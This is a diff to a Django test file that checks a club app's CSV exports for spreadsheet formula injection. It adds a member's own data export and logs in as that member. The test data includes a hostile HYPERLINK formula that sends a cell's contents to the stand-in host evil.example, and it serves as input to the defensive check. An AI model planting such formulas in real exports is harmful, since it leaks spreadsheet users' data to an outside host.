@@ -8,14 +8,17 @@ import re
 from pathlib import Path
 
 import pytest
+from django.contrib.auth import get_user_model
+from django.test import Client
 from django.urls import URLPattern, URLResolver, get_resolver, reverse
 from django.utils import timezone
 
 from club.csv_export import safe_cell
 from club.models import Session
-from tests.factories import MemberFactory
+from tests.factories import MemberFactory, UserFactory
 from tests.scoring.standings_helpers import draw, play, session_on, win
 
+User = get_user_model()
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"Click")',
@@ -76,6 +79,7 @@ def export_urls(session: Session) -> dict[str, list[str]]:
             reverse("scoring:attendance_csv") + "?by=sessions",
         ],
         "club:member_import_template": [reverse("club:member_import_template")],
+        "my_data_csv": [reverse("my_data_csv")],  # a member's own: asked as one (below)
     }
 
 
@@ -98,6 +102,8 @@ def hostile_evening(club):
     """Tonight, six members named like formulas at two tables, with wins, a draw and
     negative payments (which must stay numbers)."""
     members = [MemberFactory(club=club, name=name, table_name=name[:40]) for name in HOSTILE]
+    members[0].user = UserFactory(username="hostile")
+    members[0].save()
     members += [
         MemberFactory(club=club, name="Ann Lee", table_name="Ann"),
         MemberFactory(club=club),
@@ -116,7 +122,11 @@ def test_every_csv_export_is_safe_in_a_spreadsheet(coordinator_client, hostile_e
     seen_hostile = 0
     for addresses in urls.values():
         for url in addresses:
-            response = client.get(url)
+            asking = client
+            if url == reverse("my_data_csv"):  # a member's own data: asked as that member
+                asking = Client()
+                asking.force_login(User.objects.get(username="hostile"))
+            response = asking.get(url)
             assert response.status_code == 200, url
             found = cells(response)
             assert found, url
